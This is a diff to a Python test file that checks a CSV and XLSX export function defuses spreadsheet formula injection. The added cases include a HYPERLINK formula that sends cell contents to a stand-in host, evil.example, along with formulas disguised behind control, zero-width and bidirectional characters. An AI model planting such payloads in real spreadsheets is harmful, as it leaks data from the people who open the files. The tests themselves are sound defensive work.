@@ -39,6 +39,18 @@ def download(rows, file_format, headers=HEADERS):
         ("@SUM(1+1)", "'@SUM(1+1)"),
         ("\t=1+1", "'\t=1+1"),
         ("\r=1+1", "'\r=1+1"),
+        (
+            '\x01=HYPERLINK("http://evil.example/?"&B2,"Klik")',
+            '\'=HYPERLINK("http://evil.example/?"&B2,"Klik")',
+        ),
+        ("\x00\x1f@SUM(1+1)", "'@SUM(1+1)"),
+        ("\u200b\u202e=1+1", "'=1+1"),
+        ("\ufeff+62812", "'+62812"),
+        ("  =1+1", "'  =1+1"),
+        ("\n=1+1", "'\n=1+1"),
+        ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),
+        ("Budi\x07 Santoso", "Budi Santoso"),
+        ("Catatan\nbaris dua", "Catatan\nbaris dua"),
         ("Siti Rahmawati", "Siti Rahmawati"),
         ("Pranata Humas = humas", "Pranata Humas = humas"),
         ("", ""),
@@ -93,6 +105,19 @@ def test_an_xlsx_download_has_no_formula_and_keeps_numbers_as_numbers():
         ["Budi Santoso", "'+62", None],
     ]
     assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
+
+
+@pytest.mark.parametrize("file_format", [ExportFormat.CSV, ExportFormat.XLSX])
+def test_a_control_character_before_a_formula_does_not_make_it_live(file_format):
+    planted = '\x01=HYPERLINK("http://evil.example/?"&B2,"Klik")'
+
+    response = download([[planted, "\x1b+62", "\x7f@x"]], file_format)
+
+    rows = read_csv(response) if file_format == ExportFormat.CSV else read_xlsx(response)
+    assert rows[1] == ['\'=HYPERLINK("http://evil.example/?"&B2,"Klik")', "'+62", "'@x"]
+    if file_format == ExportFormat.XLSX:
+        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+        assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
 
 
 def test_an_unknown_format_in_an_address_is_a_missing_page():
